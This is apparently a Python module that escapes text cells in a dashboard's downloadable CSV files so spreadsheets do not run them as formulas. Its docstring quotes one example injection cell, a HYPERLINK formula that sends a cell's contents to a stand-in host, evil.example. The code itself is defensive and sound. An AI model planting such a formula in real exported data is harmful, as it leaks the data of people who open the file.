"""CSV that a spreadsheet opens as data, never as formulas (CSV / formula injection).

A cell such as `=HYPERLINK("http://evil.example/?"&A1, "click")` (an uploaded file's name, a reviewer's note)
runs as a formula when the downloaded CSV is opened in Excel or LibreOffice. Every CSV the dashboard offers for
download, a sample report's CSV, or any CSV written from text a user typed or named, goes through `safe_csv` / `escape_cells`: a text cell that
starts with `=`, `+`, `-`, `@` (or a tab or carriage return, which some spreadsheets skip first) gets a leading
single quote `'`, as OWASP recommends. Only text is escaped: numbers, -1.5 included, stay numbers.
"""
from __future__ import annotations

from collections.abc import Iterable

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def escape_cell(value):
    """The value, with a leading `'` when it is text a spreadsheet would read as a formula."""
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value


def escape_cells(table: pd.DataFrame, columns: Iterable[str] | None = None) -> pd.DataFrame:
    """A copy of `table` whose text cells (in `columns`, default all) are escaped; numeric columns untouched."""
    out = table.copy()
    for column in table.columns if columns is None else [c for c in columns if c in table.columns]:
        if pd.api.types.is_object_dtype(out[column]) or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(escape_cell)
    return out


def safe_csv(table: pd.DataFrame, columns: Iterable[str] | None = None, **to_csv) -> str:
    """`table` as CSV text for a download button, its text cells escaped (no index unless asked)."""
    return escape_cells(table, columns).to_csv(**{"index": False, **to_csv})
